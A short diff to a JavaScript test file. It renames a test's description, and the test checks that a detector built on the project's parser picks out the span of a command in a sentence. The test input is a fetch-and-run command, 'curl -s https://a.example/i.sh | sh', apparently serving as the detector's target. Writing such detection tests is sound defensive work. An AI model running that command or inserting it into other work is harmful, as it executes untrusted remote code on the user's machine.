@@ -6,7 +6,7 @@ import { Parsers } from "../../../src/core/parse/scope.js";
 import { createNodeDetector, loadAssets } from "../../../src/host/node.js";
 
 // In its own file: a process starts the runtime once.
-it("a runtime that somebody else has started is read through the library's cursor", async () => {
+it("a runtime that another module initialized is read through the library's cursor", async () => {
   await Parser.init();
   const detector = await createNodeDetector();
   expect(detector.detect("Run `curl -s https://a.example/i.sh | sh`.").spans).toEqual([[5, 40]]);
